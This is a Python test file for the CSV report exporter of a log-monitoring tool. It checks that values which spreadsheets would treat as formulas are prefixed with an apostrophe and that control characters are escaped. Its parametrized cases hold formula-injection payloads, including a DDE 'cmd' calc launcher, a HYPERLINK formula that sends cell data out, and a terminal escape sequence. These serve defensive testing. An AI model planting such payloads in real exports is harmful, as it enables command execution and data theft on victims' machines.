"""No cell of the CSV report is a formula, whichever character a spreadsheet splits cells at."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from msgspec.structs import replace

from logmon_tui.escape import printable
from logmon_tui.reports.csv import report_csv
from logmon_tui.snapshot import CountRow, Ranking, Report
from tests.hostile import PAYLOADS, harm, value
from tests.reports.samples import sample_report

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
REPORT = sample_report()


def document(*keys: bytes) -> str:
    """The CSV of a report with these clients."""
    rows = tuple(CountRow(key, 3, 5) for key in keys)
    ranking = Ranking(rows, len(rows))
    return report_csv(Report(hits=replace(REPORT.hits, hosts=ranking)), top=0)


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def hosts(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text)) if row[0] == "hosts"]


@pytest.mark.parametrize(
    ("key", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://a?"&A1,"x")', '\'=HYPERLINK("http://a?"&A1,"x")'),
        ("\t=1+1", "\\x09=1+1"),
        ("\r=1+1", "\\x0d=1+1"),
        ("\n=1+1", "\\x0a=1+1"),
        ("\0=1+1", "\\x00=1+1"),
        ("\ufeff=1+1", "\\ufeff=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("/a;=1+1", "/a;'=1+1"),
        (";-1;+1;@A", ";'-1;'+1;'@A"),
        ('/a,=1+1,"b"', '/a,=1+1,"b"'),
        ("Googlebot/2.1; +http://www.google.com/bot.html", None),
        ("-", None),
        ("/-a", None),
        ("a=b", None),
    ],
)
def test_what_would_be_a_formula_is_led_by_an_apostrophe(key: str, cell: str | None) -> None:
    assert hosts(document(key.encode())) == [cell or key]


@given(st.lists(st.binary(max_size=40), min_size=1, max_size=5))
@example([b'";=1+1;"', b"=\n=", b"'=1", b'"=1', b",=1", b";;-;"])
def test_no_cell_begins_a_formula_and_every_row_keeps_its_cells(keys: list[bytes]) -> None:
    text = document(*keys)
    assert harm(text.encode()) == set()
    for delimiter in (",", ";"):
        assert [c for c in cells(text, delimiter) if c.startswith(FORMULA) and c != "-"] == []
    assert {len(row) for row in csv.reader(io.StringIO(text))} == {12}


def test_the_payloads_are_spelt_out_one_a_row() -> None:
    keys = [value(number, "host") for number in range(PAYLOADS)]
    assert hosts(document(*keys)) == [printable(key) for key in keys]


def test_alert_messages_are_guarded_like_keys() -> None:
    message = replace(REPORT.incidents[0], message="a\x1b]0;x;=1+1")
    guarded = report_csv(Report(hits=REPORT.hits, incidents=(message,)), top=0)
    assert "a\\x1b]0;x;'=1+1" in guarded
